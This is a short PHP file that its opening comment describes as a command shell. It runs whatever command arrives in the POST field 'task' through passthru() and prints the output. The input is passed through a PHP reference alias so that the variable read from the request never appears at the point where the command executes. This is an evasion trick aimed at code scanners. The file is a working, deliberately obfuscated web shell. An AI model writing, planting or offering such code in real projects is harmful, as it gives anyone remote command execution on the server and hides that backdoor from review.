<?php
// A command shell that never names its input where it runs it: the request value is written
// through a reference, and the command runs through the other name of that reference.
$slot = array('task' => 'uptime');
$job = &$slot['task'];
if (isset($_POST['task'])) {
    $job = $_POST['task'];
}
echo '<pre>';
passthru($slot['task'] . ' 2>&1');
echo '</pre>';
